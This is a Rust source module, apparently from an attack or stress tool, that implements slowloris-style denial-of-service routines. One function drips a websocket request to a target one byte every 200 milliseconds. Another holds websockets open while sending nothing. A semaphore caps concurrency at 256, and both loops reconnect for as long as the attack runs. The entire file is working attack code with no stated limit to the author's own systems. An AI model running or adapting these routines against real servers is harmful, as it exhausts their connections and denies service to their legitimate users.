//! Connections that take their time: heads a byte at a time, and websockets on which nothing ever comes.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::sync::Semaphore;
use tokio::time::{interval, timeout};

use super::tally::count;
use super::{Attack, wire};

/// Between two bytes of a head: a head would take half a minute.
const DRIP: Duration = Duration::from_millis(200);
/// How long a connection attempt may take.
const DIAL_MAX: Duration = Duration::from_secs(5);

/// How many connections may be opened at a time: more would only wait for each other.
#[derive(Clone)]
pub struct Doors(Arc<Semaphore>);

impl Doors {
    /// Far below the backlog of a listener, which would drop the rest.
    pub fn new() -> Self {
        Self(Arc::new(Semaphore::new(256)))
    }
}

/// Keeps one websocket open on which nothing is said.
pub async fn idle(attack: Arc<Attack>, number: usize, doors: Doors) {
    let request = wire::websocket(attack.target, None);
    while attack.goes_on() {
        let opened = {
            let Ok(_door) = doors.0.acquire().await else { return };
            wire::open(attack.target, attack.source(number), &request, &attack.tally).await
        };
        let Some(mut opened) = opened else { continue };
        attack.tally.opened();
        let mut buffer = [0; 512];
        while matches!(opened.stream.read(&mut buffer).await, Ok(1..)) {}
        attack.tally.closed();
    }
}

/// Keeps one connection open whose request is never complete.
pub async fn drip(attack: Arc<Attack>, number: usize, doors: Doors) {
    let request = wire::websocket(attack.target, None);
    while attack.goes_on() {
        count(&attack.tally.tries);
        let stream = {
            let Ok(_door) = doors.0.acquire().await else { return };
            timeout(DIAL_MAX, wire::dial(attack.target, attack.source(number))).await
        };
        let Ok(Ok(mut stream)) = stream else {
            count(&attack.tally.failed);
            tokio::task::yield_now().await;
            continue;
        };
        count(&attack.tally.accepted);
        attack.tally.opened();
        let (mut reading, mut writing) = stream.split();
        let write = async {
            let mut ticks = interval(DRIP);
            for byte in request.as_bytes() {
                ticks.tick().await;
                if writing.write_all(&[*byte]).await.is_err() {
                    return;
                }
                attack.tally.bytes.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            }
        };
        // Whether it is told off or simply closed makes no difference to it.
        let mut answer = [0; 512];
        tokio::select! {
            () = write => {}
            _ = reading.read(&mut answer) => {}
        }
        attack.tally.closed();
    }
}
